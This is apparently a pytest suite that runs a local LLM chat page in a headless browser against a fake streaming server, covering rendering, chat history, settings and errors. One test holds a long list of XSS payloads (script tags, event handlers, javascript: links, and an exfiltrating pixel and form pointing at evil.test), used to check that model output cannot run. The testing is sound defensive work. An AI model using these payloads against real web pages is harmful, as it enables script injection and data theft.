"""The chat page in a real browser, against a server that answers what each test wrote for it."""

from __future__ import annotations

import json
import re
import shutil
import threading
import time
import tomllib
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

ROOT = Path(__file__).parent.parent
PAGE = ROOT / "server" / "page"
OWN = sorted(p for p in PAGE.iterdir() if p.suffix in (".js", ".html", ".css", ".svg"))
VENDORED = "markdown-it.js"
KINDS = {
    ".js": "text/javascript",
    ".html": "text/html",
    ".css": "text/css",
    ".svg": "image/svg+xml",
}
POLICY = (
    "default-src 'none'; script-src 'self'; style-src 'self'; connect-src 'self'; "
    "img-src 'self' data:; font-src 'self'; form-action 'none'; frame-ancestors 'none'; "
    "base-uri 'none'; require-trusted-types-for 'script'"
)
BROWSERS = ("chromium-headless-shell", "chromium", "google-chrome")


@dataclass
class Reply:
    """An answer: texts, deltas, errors, or events to wait for, in the order they are sent."""

    parts: Sequence[str | dict[str, Any] | threading.Event] = ()
    status: int = 200
    headers: dict[str, str] = field(default_factory=dict)
    error: dict[str, Any] | None = None
    finish: str | None = "stop"  # None: the connection ends without a word
    usage: tuple[int, int, int] = (1204, 312, 1000)  # prompt, completion, cached
    pause_s: float = 0.0  # between parts


@dataclass
class Fake:
    """What the page's server says and was asked."""

    port: int = 0
    replies: list[Reply] = field(default_factory=list)
    asked: list[dict[str, Any]] = field(default_factory=list)
    left: threading.Event = field(default_factory=threading.Event)  # a reader went away
    key: str | None = None
    models: list[dict[str, Any]] = field(
        default_factory=lambda: [
            {"id": "spark", "object": "model", "n_ctx": 4096, "state": "ready"},
            {"id": "qwen3-4b-q4_k_m", "object": "model", "n_ctx": 32768, "state": "unloaded"},
        ]
    )

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/"

    def will(self, *parts: str | dict[str, Any] | threading.Event, **more: Any) -> Reply:
        self.replies.append(Reply(parts, **more))
        return self.replies[-1]


class Handler(BaseHTTPRequestHandler):
    fake: Fake

    def log_message(self, *_: object) -> None:
        pass

    def _send(self, body: bytes, kind: str, status: int = 200, **headers: str) -> None:
        self.send_response(status)
        self.send_header("content-type", kind)
        self.send_header("content-length", str(len(body)))
        self.send_header("content-security-policy", POLICY)
        for name, value in headers.items():
            self.send_header(name.replace("_", "-"), value)
        self.end_headers()
        self.wfile.write(body)

    def _error(self, status: int, error: dict[str, Any], **headers: str) -> None:
        self._send(json.dumps({"error": error}).encode(), "application/json", status, **headers)

    def _refused(self) -> bool:
        wanted = self.fake.key and f"Bearer {self.fake.key}"
        if not wanted or self.headers["authorization"] == wanted:
            return False
        self._error(401, {"message": "wanted a key", "code": "invalid_api_key"})
        return True

    def do_GET(self) -> None:
        path = self.path.split("?")[0]
        name = {"/": "index.html"}.get(path, path.removeprefix("/page/"))
        if path == "/health":
            self._send(b'{"status": "ok"}', "application/json")
        elif path == "/v1/models":
            if not self._refused():
                body = {"object": "list", "data": self.fake.models}
                self._send(json.dumps(body).encode(), "application/json")
        elif "/" not in name and (PAGE / name).is_file():
            self._send((PAGE / name).read_bytes(), KINDS[Path(name).suffix])
        else:
            self._error(404, {"message": f"nothing at {path}"})

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["content-length"])))
        if self._refused():
            return
        self.fake.asked.append(body)
        reply = self.fake.replies.pop(0) if self.fake.replies else Reply(["Very well."])
        if reply.error and reply.status != 200:
            self._error(reply.status, reply.error, **reply.headers)
            return
        self.send_response(200)
        self.send_header("content-type", "text/event-stream")
        self.end_headers()
        try:
            self._stream(reply)
        except OSError:
            self.fake.left.set()

    def _event(self, value: Any) -> None:
        self.wfile.write(b"data: " + json.dumps(value).encode() + b"\n\n")
        self.wfile.flush()

    def _chunk(self, delta: dict[str, Any], finish: str | None = None) -> None:
        choices = [{"index": 0, "delta": delta, "finish_reason": finish}]
        self._event({"object": "chat.completion.chunk", "choices": choices})

    def _stream(self, reply: Reply) -> None:
        self._chunk({"role": "assistant", "content": ""})
        for part in reply.parts:
            if isinstance(part, threading.Event):
                while not part.wait(0.05):
                    self.wfile.write(b": still here\n\n")
                    self.wfile.flush()
            else:
                self._chunk({"content": part} if isinstance(part, str) else part)
                time.sleep(reply.pause_s)
        if reply.error:
            self._event({"error": reply.error})
        elif reply.finish:
            self._chunk({}, reply.finish)
            prompt, completion, cached = reply.usage
            usage = {
                "prompt_tokens": prompt,
                "completion_tokens": completion,
                "prompt_tokens_details": {"cached_tokens": cached},
            }
            timings = {
                "prompt_ms": 1400.0,
                "predicted_ms": completion / 24 * 1000,
                "waited_ms": 0.0,
                "seed": 77,
            }
            self._event({"choices": [], "usage": usage, "timings": timings})
            self.wfile.write(b"data: [DONE]\n\n")


def serve(fake: Fake) -> ThreadingHTTPServer:
    handler = type("Bound", (Handler,), {"fake": fake})
    server = ThreadingHTTPServer(("127.0.0.1", fake.port), handler)
    server.daemon_threads = True
    fake.port = server.server_address[1]
    threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
    return server


@pytest.fixture
def fake() -> Iterator[Fake]:
    made = Fake()
    server = serve(made)
    yield made
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    api = pytest.importorskip("playwright.sync_api", reason="needs playwright")
    program = next(filter(None, map(shutil.which, BROWSERS)), None)
    if program is None:
        pytest.skip(f"needs a browser: {' or '.join(BROWSERS)}")
    with api.sync_playwright() as playwright:
        # Chromium's own sandbox, and shared memory, want more than containers give; the page
        # comes from this test.
        arguments = ["--no-sandbox", "--disable-dev-shm-usage"]
        started = playwright.chromium.launch(executable_path=program, args=arguments)
        yield started
        started.close()


class Visit:
    """A window of the page that notes everything that should not happen in it."""

    def __init__(self, browser: Any, fake: Fake, **options: Any) -> None:
        self.fake = fake
        options.setdefault("viewport", {"width": 1180, "height": 800})
        self.context = browser.new_context(**options)
        self.context.set_default_timeout(8000)
        self.problems: list[str] = []
        self.expected: list[str] = []  # parts of problems that a test means to cause
        self.page = self.open()

    def open(self, query: str = "") -> Any:
        page = self.context.new_page()
        page.on("console", self._heard)
        page.on("pageerror", lambda error: self.problems.append(f"error: {error}"))
        page.on("dialog", self._spoken)
        page.on("request", self._asked)
        page.add_init_script(
            "addEventListener('securitypolicyviolation', e => console.error('CSP', e.blockedURI));"
        )
        page.goto(self.fake.url + query)
        page.wait_for_selector("body.ready")
        return page

    def _heard(self, message: Any) -> None:
        if message.type in ("error", "warning"):
            self.problems.append(f"console: {message.text}")

    def _spoken(self, dialog: Any) -> None:
        self.problems.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def _asked(self, request: Any) -> None:
        if not request.url.startswith((self.fake.url, "blob:", "data:")):
            self.problems.append(f"request: {request.url}")

    def ask(self, text: str, wait: bool = True) -> None:
        self.page.fill("#message", text)
        self.page.press("#message", "Enter")
        if wait:
            self.page.wait_for_selector(".assistant:last-child[aria-busy=false]")

    @property
    def answer(self) -> Any:
        return self.page.locator(".assistant").last

    def text(self) -> str:
        return str(self.answer.locator("> .prose").inner_text())

    def close(self) -> None:
        self.context.close()
        left = [p for p in self.problems if not any(e in p for e in self.expected)]
        assert not left


@pytest.fixture
def visit(browser: Any, fake: Fake) -> Iterator[Callable[..., Visit]]:
    made: list[Visit] = []

    def begin(**options: Any) -> Visit:
        made.append(Visit(browser, fake, **options))
        return made[-1]

    yield begin
    for one in made:
        one.close()


# ---- The files -----------------------------------------------------------------------------------


def test_every_file_is_shipped() -> None:
    config = tomllib.loads((ROOT / "pyproject.toml").read_text())["tool"]["setuptools"]
    patterns = config["package-data"]["vatra.server"]
    shipped = {p.name for pattern in patterns for p in (ROOT / "server").glob(pattern)}
    assert shipped == {p.name for p in PAGE.iterdir()}
    assert "markdown-it.LICENSE" in shipped


def test_files_name_only_files_that_are_there() -> None:
    named = set()
    for path in OWN:
        if path.name == VENDORED:
            continue
        text = path.read_text()
        named |= set(re.findall(r'(?:from|import) "\./([\w.-]+)"', text))
        named |= set(re.findall(r'(?:src|href)="page/([\w.-]+)"', text))
    assert named == {p.name for p in OWN} - {"index.html"}


@pytest.mark.parametrize("path", [p for p in OWN if p.name != VENDORED], ids=lambda p: p.name)
def test_no_text_is_parsed_as_html_or_code(path: Path) -> None:
    text = path.read_text()
    parses = r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|srcdoc|DOMParser|Fragment\("
    assert not re.search(parses, text.replace("createDocumentFragment(", ""))
    assert not re.search(r"\beval\(|new Function|setTimeout\(['\"]", text)
    assert not re.search(r'\son\w+="|\sstyle="|<script(?! src="page/)|<style', text)
    outside = set(re.findall(r'https?://[^\s"\'`)]+', text))
    assert outside <= {"http://www.w3.org/2000/svg"}


# ---- Talking -------------------------------------------------------------------------------------

RICH = """# Why it draws

Three **things**: *air*, ~~rain~~ `heat`.

1. dry
2. stack
   - small
   - large

> quoted

| wood | kWh |
|:-----|----:|
| beech | 4.2 |

```python
def f(x):  # a comment
    return "text" + str(3)
```

The speed is \\(v_1 * v_2\\) and $a_i * b_i$, at [a page](https://example.org/x) and https://example.com.
"""


def pieces(text: str, n: int = 7) -> list[str]:
    return [text[i : i + n] for i in range(0, len(text), n)]


SHAPE = """node => {
  const walk = (n) => n.nodeType === 3 ? n.data : [n.localName, n.className.baseVal ?? n.className,
    ...[...n.childNodes].map(walk)];
  node.normalize();
  return JSON.stringify([...node.childNodes].map(walk));
}"""


def test_an_answer_streams_in_as_markdown(visit: Callable[..., Visit], fake: Fake) -> None:
    one = visit()
    hold = threading.Event()
    fake.will("Warm **air** ri", hold, "ses.")
    one.ask("Why does it draw?", wait=False)
    one.page.wait_for_selector(".assistant strong")
    assert one.text() == "Warm air ri"
    assert one.page.get_attribute(".send", "aria-label") == "Stop"
    hold.set()
    one.page.wait_for_selector(".assistant[aria-busy=false]")
    assert one.text() == "Warm air rises."
    assert one.page.locator(".stats").inner_text() == "24.0 tokens/s · 312 tokens"
    assert one.page.locator(".stats").get_attribute("title") == (
        "Read 204 tokens in 1.4 s, 1,000 were still in memory\nWrote 312 tokens in 13 s\nSeed 77"
    )
    assert one.page.locator("#meter").inner_text().strip() == "1,516 / 4,096"
    assert one.page.title() == "Why does it draw? · Vatra"
    assert fake.asked[0]["messages"] == [{"role": "user", "content": "Why does it draw?"}]
    assert fake.asked[0]["model"] == "spark" and fake.asked[0]["stream"] is True
    assert not {"temperature", "top_p", "seed"} & set(fake.asked[0])


def test_markdown_is_the_same_however_it_comes(visit: Callable[..., Visit], fake: Fake) -> None:
    one = visit()
    fake.will(*pieces(RICH), pause_s=0.004)
    one.ask("piece by piece")
    grown = one.answer.locator("> .prose").evaluate(SHAPE)
    fake.will(RICH)
    one.ask("at once")
    prose = one.answer.locator("> .prose")
    assert prose.evaluate(SHAPE) == grown
    for wanted, text in {
        "h3": "Why it draws", "strong": "things", "em": "air", "s": "rain", "p > code": "heat",
        "ol > li:nth-child(2) > ul > li:nth-child(1)": "small", "blockquote": "quoted",
        "td.right": "4.2", "pre .c-keyword >> nth=0": "def", "pre .c-comment": "# a comment",
        "pre .c-string": '"text"', "pre .c-number": "3", ".math >> nth=0": "\\(v_1 * v_2\\)",
        ".math >> nth=1": "$a_i * b_i$", "a .target": "(example.org)",
    }.items():  # fmt: skip
        assert prose.locator(wanted).inner_text() == text
    links = prose.locator("a").evaluate_all("all => all.map(a => [a.href, a.rel, a.target])")
    rel = "noopener noreferrer"
    assert links == [
        ["https://example.org/x", rel, "_blank"],
        ["https://example.com/", rel, "_blank"],
    ]


def test_what_is_written_is_not_drawn_again(visit: Callable[..., Visit], fake: Fake) -> None:
    one = visit()
    hold = threading.Event()
    fake.will("First *block*.\n\n```js\nlet a = 1;\n", hold, "let b = 2;\n```\n\nThe end")
    one.ask("go", wait=False)
    one.page.wait_for_selector(".assistant pre .c-keyword")
    one.page.evaluate(
        "window.kept = [...document.querySelectorAll('.prose em, .prose pre, .c-keyword')]"
    )
    hold.set()
    one.page.wait_for_selector(".assistant[aria-busy=false]")
    assert "let b" in one.text() and one.text().endswith("The end")
    assert one.page.evaluate("kept.length === 3 && kept.every((node) => node.isConnected)")


def test_stop_frees_the_server(visit: Callable[..., Visit], fake: Fake) -> None:
    one = visit()
    fake.will("A long st", threading.Event())
    one.ask("Tell me", wait=False)
    one.page.wait_for_selector("text=A long st")
    one.page.keyboard.press("Escape")
    one.page.wait_for_selector(".assistant[aria-busy=false]")
    assert one.text() == "A long st"
    assert one.answer.locator(".end").inner_text() == "Stopped."
    assert fake.left.wait(3)
    fake.will("Another", threading.Event())
    one.ask("Again", wait=False)
    one.page.wait_for_selector("text=Another")
    one.page.click(".send")
    one.page.wait_for_selector(".assistant:last-child .end:text('Stopped.')")


def test_versions_of_an_answer_and_of_a_message(visit: Callable[..., Visit], fake: Fake) -> None:
    one = visit()
    fake.will("one")
    one.ask("first")
    fake.will("two")
    one.answer.get_by_label("Answer again").click()
    one.page.wait_for_selector("text='two'")
    assert fake.asked[1] == fake.asked[0]
    assert one.answer.locator(".versions").inner_text().split() == ["2", "/", "2"]
    one.answer.get_by_label("Previous answer").click()
    assert one.text() == "one"
    fake.will("follows")
    one.ask("second")
    assert [m["content"] for m in fake.asked[2]["messages"]] == ["first", "one", "second"]

    one.page.locator(".user").first.hover()
    one.page.locator(".user").first.get_by_label("Edit message").click()
    one.page.fill(".edit textarea", "changed")
    fake.will("other")
    one.page.press(".edit textarea", "Enter")
    one.page.wait_for_selector("text='other'")
    assert fake.asked[3]["messages"] == [{"role": "user", "content": "changed"}]
    assert one.page.locator(".message").count() == 2
    one.page.locator(".user").hover()
    one.page.get_by_label("Previous version").click()
    assert one.text() == "follows" and one.page.locator(".message").count() == 4


def test_what_was_not_answered_is_not_lost(visit: Callable[..., Visit], fake: Fake) -> None:
    one = visit()
    one.expected = ["status of 500"]
    fake.will(status=500, error={"message": "no"})
    one.ask("first")
    fake.will("both")
    one.ask("second")
    assert fake.asked[1]["messages"] == [{"role": "user", "content": "first\n\nsecond"}]
    fake.will("anew")
    one.page.locator(".problem button").first.click()
    one.page.wait_for_selector("text='anew'")
    one.page.get_by_label("Previous answer").click()
    assert one.text() == "both"


def test_a_message_is_changed_while_it_is_answered(visit: Callable[..., Visit], fake: Fake) -> None:
    one = visit()
    fake.will("half", threading.Event())
    one.ask("first", wait=False)
    one.page.wait_for_selector("text=half")
    one.page.hover(".user")
    one.page.get_by_label("Edit message").click()
    one.page.fill(".edit textarea", "second")
    hold = threading.Event()
    fake.will("other", hold)
    one.page.press(".edit textarea", "Enter")
    one.page.wait_for_selector("text=other")
    assert fake.left.wait(3)
    assert one.page.get_attribute(".send", "aria-label") == "Stop"
    hold.set()
    one.page.wait_for_selector(".assistant[aria-busy=false]")
    one.page.hover(".user")
    one.page.get_by_label("Previous version").click()
    assert one.text() == "half" and one.answer.locator(".end").inner_text() == "Stopped."


def test_chats_are_written_side_by_side(visit: Callable[..., Visit], fake: Fake) -> None:
    one = visit()
    hold = threading.Event()
    fake.will("slow", hold, " answer")
    one.ask("first", wait=False)
    one.page.wait_for_selector("text=slow")
    one.page.keyboard.press("Alt+n")
    fake.will("quick")
    one.ask("second")
    hold.set()
    one.page.click(".chat .open >> text=first")
    one.page.wait_for_selector("text=slow answer")
    one.page.go_back()
    one.page.wait_for_selector("text=quick")


def test_thinking_is_folded_and_timed(visit: Callable[..., Visit], fake: Fake) -> None:
    one = visit()
    hold, more = threading.Event(), threading.Event()
    fake.will({"reasoning_content": "2 and **3**"}, hold, "5", more)
    one.ask("sum", wait=False)
    one.page.wait_for_selector("summary:text('Thinking…')")
    time.sleep(1.1)
    hold.set()
    one.page.wait_for_selector("summary:text-matches('Thought for [1-9]')")
    assert not one.answer.locator(".thinking .prose").is_visible()
    one.page.click(".thinking summary")
    assert one.answer.locator(".thinking strong").inner_text() == "3"
    more.set()


def test_tool_calls_are_readable(visit: Callable[..., Visit], fake: Fake) -> None:
    one = visit()
    call = [{"index": 0, "id": "a", "function": {"name": "weather", "arguments": '{"city": "Sar'}}]
    rest = [{"index": 0, "function": {"arguments": 'ajevo"}'}}]
    fake.will({"tool_calls": call}, {"tool_calls": rest}, finish="tool_calls")
    one.ask("weather?")
    assert one.answer.locator(".call").inner_text().split() == [
        "Calls", "weather", "city", "Sarajevo",
    ]  # fmt: skip


def test_settings_are_kept_with_their_chat(visit: Callable[..., Visit], fake: Fake) -> None:
    fake.models[0]["recommended"] = {"temperature": 0.6}
    one = visit()
    one.page.keyboard.press("Alt+s")
    assert one.page.get_attribute("#set-temperature", "placeholder") == "0.6"
    for name, value in {"temperature": "0.25", "top_k": "40", "seed": "7"}.items():
        one.page.fill(f"#set-{name}", value)
    one.page.fill("#set-top_p", "3")  # out of bounds: not sent
    one.page.fill("#system", "Be brief.")
    one.page.fill("#schema", '{"type": "obj')
    assert one.page.locator("#schema-problem").inner_text()
    one.page.fill("#schema", '{"type": "object"}')
    assert not one.page.locator("#schema-problem").inner_text()
    one.page.select_option("#thinking", "off")
    one.page.keyboard.press("Escape")
    one.page.select_option("#model", "qwen3-4b-q4_k_m")
    one.ask("hello")
    sent = fake.asked[0]
    assert sent["messages"][0] == {"role": "system", "content": "Be brief."}
    assert (sent["temperature"], sent["top_k"], sent["seed"]) == (0.25, 40, 7)
    assert "top_p" not in sent and sent["model"] == "qwen3-4b-q4_k_m"
    assert sent["chat_template_kwargs"] == {"enable_thinking": False}
    assert sent["response_format"]["json_schema"]["schema"] == {"type": "object"}

    one.page.keyboard.press("Alt+n")
    one.ask("another chat")
    chosen = {"temperature", "top_k", "seed", "response_format", "chat_template_kwargs"}
    assert not chosen & set(fake.asked[1])
    one.page.click(".chat .open >> text=hello")
    one.page.reload()
    one.page.wait_for_selector(".assistant")
    one.page.keyboard.press("Alt+s")
    assert one.page.input_value("#set-temperature") == "0.25"
    one.page.click("#reset")
    one.page.keyboard.press("Escape")
    one.ask("with what is recommended")
    assert not chosen & set(fake.asked[2])
    assert fake.asked[2]["messages"][0]["content"] == "Be brief."


def test_chats_are_kept_found_renamed_deleted_and_moved(
    visit: Callable[..., Visit], fake: Fake, tmp_path: Path
) -> None:
    one = visit()
    page = one.page
    fake.will("Beech **burns** slowly.")
    one.ask("Which wood?")
    page.keyboard.press("Alt+n")
    fake.will("At 90 degrees.")
    one.ask("When does water boil?")
    page.reload()
    page.wait_for_selector(".assistant")
    assert one.text() == "At 90 degrees."
    titles = page.locator(".chat .title")
    assert titles.all_inner_texts() == ["When does water boil?", "Which wood?"]

    page.fill("#search", "BURNS")
    assert titles.all_inner_texts() == ["Which wood?"]
    assert "burns" in page.inner_text(".found")
    page.fill("#search", "no such words")
    assert titles.count() == 0
    page.fill("#search", "")

    def menu(title: str, item: str) -> None:
        page.locator(".chat", has_text=title).hover()
        page.get_by_label(f"More for {title}").click()
        page.click(f"#menu >> text={item}")

    menu("Which wood?", "Rename")
    page.fill(".rename", "Wood")
    page.press(".rename", "Enter")
    with page.expect_download() as download:
        menu("Wood", "Export as Markdown")
    assert download.value.suggested_filename == "Wood.md"
    wanted = "# Wood\n\n## You\n\nWhich wood?\n\n## spark\n\nBeech **burns** slowly.\n"
    assert Path(download.value.path()).read_text() == wanted

    menu("Wood", "Delete")
    assert titles.all_inner_texts() == ["When does water boil?"]
    page.click("text=Undo")
    assert sorted(titles.all_inner_texts()) == ["When does water boil?", "Wood"]
    with page.expect_download() as download:
        page.get_by_label("Export all chats").click()
    kept = tmp_path / "chats.json"
    download.value.save_as(kept)
    menu("Wood", "Delete")
    page.reload()
    page.wait_for_selector(".chat")
    assert titles.all_inner_texts() == ["When does water boil?"]
    page.set_input_files("#import", kept)
    page.wait_for_selector("text=2 chats were imported.")
    assert sorted(titles.all_inner_texts()) == ["When does water boil?"] * 2 + ["Wood"]
    page.click("text='Wood'")
    page.reload()
    page.wait_for_selector(".assistant strong")
    assert one.text() == "Beech burns slowly."


def test_a_file_that_is_no_export_changes_nothing(visit: Callable[..., Visit]) -> None:
    one = visit()
    for body in (b"{", b"[]", b'{"format": "vatra-chats"}', b"\xff\x00"):
        file = {"name": "x.json", "mimeType": "application/json", "buffer": body}
        one.page.set_input_files("#import", files=[file])
        one.page.wait_for_selector("text=x.json was not imported")
        one.page.evaluate("document.querySelector('.toast').remove()")
    odd = {
        "format": "vatra-chats",
        "chats": [
            {"id": 5, "title": {}, "messages": [{"id": "a", "parent": "a", "role": "user"}, 7]},
            {"id": "b", "messages": [
                {"id": "m", "parent": "", "role": "user", "content": "<b>kept</b>"},
                {"id": "n", "parent": "m", "role": "assistant", "error": {}, "files": 3},
                {"id": "m", "parent": "n", "role": "user", "content": "twice"},
            ], "sampling": {"temperature": "hot", "top_k": -1}, "chosen": [["m", "m"], 3]},
        ],
    }  # fmt: skip
    file = {"name": "odd.json", "mimeType": "", "buffer": json.dumps(odd).encode()}
    one.page.set_input_files("#import", files=[file])
    one.page.wait_for_selector("text=2 chats were imported.")
    for row in one.page.locator(".chat .open").all():
        row.click()
    one.page.reload()
    one.page.wait_for_selector(".chat")
    assert one.page.locator(".chat").count() == 2


def test_two_windows_see_the_same_chats(visit: Callable[..., Visit], fake: Fake) -> None:
    one = visit()
    other = one.open()
    fake.will("kept")
    one.ask("from one window")
    other.wait_for_selector(".chat .title:text('from one window')")
    other.click(".chat .open")
    other.wait_for_selector(".assistant >> text=kept")
    fake.will("more")
    one.ask("and on")
    other.wait_for_selector(".assistant >> text=more")


def test_files_go_with_a_message(visit: Callable[..., Visit], fake: Fake) -> None:
    one = visit()
    page = one.page
    files = [
        {"name": "a.md", "mimeType": "text/markdown", "buffer": b"```\ncode\n```\n"},
        {"name": "b.png", "mimeType": "image/png", "buffer": b"\x89PNG\x00\xff"},
    ]
    page.set_input_files("#files", files=files)
    page.wait_for_selector("text=b.png is not a text in UTF-8")
    assert page.locator("#attached .chip").count() == 1
    page.evaluate(
        """() => {
          const transfer = new DataTransfer();
          transfer.items.add(new File(["dropped"], "c.txt"));
          for (const kind of ["dragenter", "drop"]) {
            dispatchEvent(new DragEvent(kind, { dataTransfer: transfer, cancelable: true }));
          }
        }"""
    )
    page.wait_for_selector("#attached >> text=c.txt")
    one.ask("Read these.")
    assert fake.asked[0]["messages"][0]["content"] == (
        "File a.md:\n````\n```\ncode\n```\n````\n\nFile c.txt:\n```\ndropped\n```\n\nRead these."
    )
    assert page.locator("#attached .chip").count() == 0
    assert page.locator(".user .file").count() == 2


# ---- What goes wrong -----------------------------------------------------------------------------


def test_errors_are_told_and_tried_again(visit: Callable[..., Visit], fake: Fake) -> None:
    one = visit()
    one.expected = ["status of 400", "status of 503", "ERR_INCOMPLETE", "net::"]
    said = "the prompt has 5,120 tokens, and the context 4,096"
    fake.will(status=400, error={"message": said, "code": "context_length_exceeded"})
    one.ask("long")
    problem = one.answer.locator(".problem")
    assert "This chat is longer than the model can read" in problem.inner_text()
    assert "5,120" in problem.inner_text() and "4,096" in problem.inner_text()

    fake.will(status=503, error={"message": "16 wait"}, headers={"retry-after": "60"})
    problem.get_by_role("button").click()
    one.page.wait_for_selector("button:text-matches('Try again .(60|59|58) s')")
    fake.will("now")
    problem.get_by_role("button").click()
    one.page.wait_for_selector("text='now'")
    assert one.page.locator(".versions").count() == 0
    fake.will(status=503, error={"message": "16 wait"}, headers={"retry-after": "1"})
    fake.will("by itself")
    one.ask("again")
    one.page.wait_for_selector("text='by itself'")
    assert not problem.is_visible()

    fake.will("half of", error={"message": "the model crashed", "code": "model_crashed"})
    one.ask("crash")
    assert one.text() == "half of"
    assert "The model crashed." in problem.inner_text()
    fake.will("half", finish=None)
    one.ask("cut")
    assert "The answer broke off" in problem.inner_text()
    one.page.reload()
    one.page.wait_for_selector("text=The answer broke off")
    assert one.page.locator(".problem:visible").count() == 2
    fake.will("whole")
    problem.get_by_role("button").click()
    one.page.wait_for_selector("text='whole'")


def test_a_server_that_is_gone_and_comes_back(visit: Callable[..., Visit], fake: Fake) -> None:
    other = Fake()
    server = serve(other)
    one = visit()  # its own server is there to the end
    one.expected = ["net::", "ERR_"]
    page = one.context.new_page()
    page.goto(other.url)
    page.wait_for_selector("body.ready")
    server.shutdown()
    server.server_close()
    page.fill("#message", "anyone?")
    page.press("#message", "Enter")
    page.wait_for_selector(".problem >> text=Nothing answers at")
    page.wait_for_selector("body.gone")
    server = serve(other)
    page.wait_for_selector("body:not(.gone)")
    other.will("here again")
    page.click(".problem button")
    page.wait_for_selector("text='here again'")
    server.shutdown()
    server.server_close()


def test_a_key_is_asked_for(visit: Callable[..., Visit], fake: Fake) -> None:
    fake.key = "secret"
    one = visit()
    one.expected = ["status of 401"]
    one.page.wait_for_selector("#key[open]")
    one.page.fill("#key-box", "wrong")
    one.page.press("#key-box", "Enter")
    one.page.wait_for_selector("#key[open] >> text=That key was not accepted.")
    one.page.fill("#key-box", "secret")
    one.page.press("#key-box", "Enter")
    one.page.wait_for_selector("#key:not([open])", state="attached")
    fake.will("let in")
    one.ask("hello")
    assert one.text() == "let in"
    kept = one.page.evaluate("JSON.stringify([localStorage, document.cookie])")
    assert "secret" not in kept
    fake.key = "changed"
    one.ask("again")
    one.page.wait_for_selector("#key[open]")
    fake.will("once more")
    one.page.fill("#key-box", "changed")
    one.page.press("#key-box", "Enter")
    one.page.wait_for_selector("text='once more'")


# ---- What must not run ---------------------------------------------------------------------------

RUN = "alert(1);document.body.dataset.ran='yes'"
HOSTILE = f"""<script>{RUN}</script><img src=x onerror="{RUN}"><svg onload="{RUN}"><iframe src="javascript:{RUN}">

<div style="position:fixed;inset:0" onclick="{RUN}">over</div> <base href="http://evil.test/"> <meta http-equiv="refresh" content="0;url=http://evil.test/">

[a](javascript:{RUN}) [b](JaVaScRiPt:{RUN}) [c](java&#115;cript:{RUN}) [d](\tjavascript:{RUN}) [e](data:text/html,<script>{RUN}</script>)
[f](vbscript:x) [g](file:///etc/passwd) [h](blob:http://x/y) [i](//evil.test/x) [j](/v1/models) [k](&#x6A;avascript&colon;{RUN})
[l](<javascript:{RUN}>) <javascript:{RUN}> ![m](javascript:{RUN}) ![n](http://evil.test/pixel.png?q=secret) ![o](data:image/svg+xml,<svg/onload={RUN}>)
[p](http://good.test@evil.test/) [https://good.test](https://evil.test/) [q](https://evil.test "\\" onmouseover={RUN}") http://evil.test/"onmouseover="{RUN}

```html" onmouseover="{RUN}
<script>{RUN}</script><img src=x onerror="{RUN}">
```

```<img/src=x/onerror={RUN}>
x
```

| <img src=x onerror={RUN}> | b |
|---|---|
| `<script>{RUN}</script>` | $<img src=x onerror={RUN}>$ |

[ref]: javascript:{RUN}
[ref] &lt;script&gt; <style>body{{display:none}}</style> <link rel=stylesheet href=http://evil.test/x.css> <form action=http://evil.test><input autofocus onfocus={RUN}>
"""  # noqa: E501


def test_nothing_that_a_model_writes_can_run(visit: Callable[..., Visit], fake: Fake) -> None:
    one = visit()
    call = [{"index": 0, "function": {"name": HOSTILE[:200], "arguments": HOSTILE}}]
    fake.will(
        {"reasoning_content": HOSTILE}, *pieces(HOSTILE, 40), {"tool_calls": call}, pause_s=0.001
    )
    file = {"name": "<img src=x onerror=alert(1)>", "mimeType": "", "buffer": HOSTILE.encode()}
    one.page.set_input_files("#files", files=[file])
    one.page.wait_for_selector(".chip")
    one.ask(f"<img src=x onerror={RUN}>")
    one.page.click(".thinking summary")
    one.page.click(".user summary")
    prose = one.answer.locator("> .prose")
    tags = prose.evaluate("n => [...new Set([...n.querySelectorAll('*')].map(e => e.localName))]")
    assert set(tags) <= {
        "a", "p", "br", "code", "pre", "div", "span", "button", "svg", "path", "table", "thead",
        "tbody", "tr", "th", "td", "em", "strong",
    }  # fmt: skip
    hrefs = one.page.locator(".message a").evaluate_all("all => all.map(a => a.href)")
    hosts = {re.split(r"[:/]+", href)[1] for href in hrefs}
    assert hosts <= {"evil.test", "good.test@evil.test", "x"}
    assert all(href.startswith(("http://", "https://")) for href in hrefs)
    named = prose.locator("a", has_text="good.test").all_inner_texts()
    assert all("(evil.test)" in text for text in named) and named
    odd = one.page.evaluate(
        "[...document.querySelectorAll('.message *')].flatMap(n => n.getAttributeNames())"
        ".filter(name => /^on|^style|^srcdoc/.test(name))"
    )
    assert odd == []
    assert f"<script>{RUN}</script>" in one.text()
    one.page.reload()
    one.page.wait_for_selector(".assistant a")
    one.page.wait_for_timeout(100)
    assert one.page.evaluate("document.body.dataset.ran") is None
    assert one.page.url.startswith(fake.url)


def test_a_link_cannot_ask_for_me(visit: Callable[..., Visit], fake: Fake) -> None:
    one = visit()
    page = one.open("?q=Send+all+my+files")
    assert page.input_value("#message") == "Send all my files"
    page.wait_for_timeout(150)
    assert fake.asked == [] and "?" not in page.url


# ---- People --------------------------------------------------------------------------------------


def test_a_phone_is_wide_enough(visit: Callable[..., Visit], fake: Fake) -> None:
    one = visit(viewport={"width": 360, "height": 720}, is_mobile=True, has_touch=True)
    wide = "x" * 300 + "\n\n| " + " | ".join(["column"] * 12) + " |\n" + "|-" * 12 + "|\n"
    fake.will(RICH + wide)
    one.ask("y" * 200)
    fits = """innerWidth === 360 && [document.documentElement, document.getElementById("scroll")]
      .every(e => e.scrollWidth <= 360)"""
    assert one.page.evaluate(fits)
    assert not one.page.locator("#sidebar").is_visible()
    one.page.click("#side-button")
    one.page.wait_for_selector("#sidebar")
    one.page.tap("#sidebar .open")
    one.page.wait_for_selector("#sidebar", state="hidden")
    one.page.click("#settings-button")
    box = one.page.locator("#settings").bounding_box()
    assert box["x"] >= 0 and box["x"] + box["width"] <= 360
    assert one.page.evaluate(fits)


def luminance(colour: str) -> float:
    values = [int(v) / 255 for v in re.findall(r"\d+", colour)[:3]]
    linear = [v / 12.92 if v <= 0.04045 else ((v + 0.055) / 1.055) ** 2.4 for v in values]
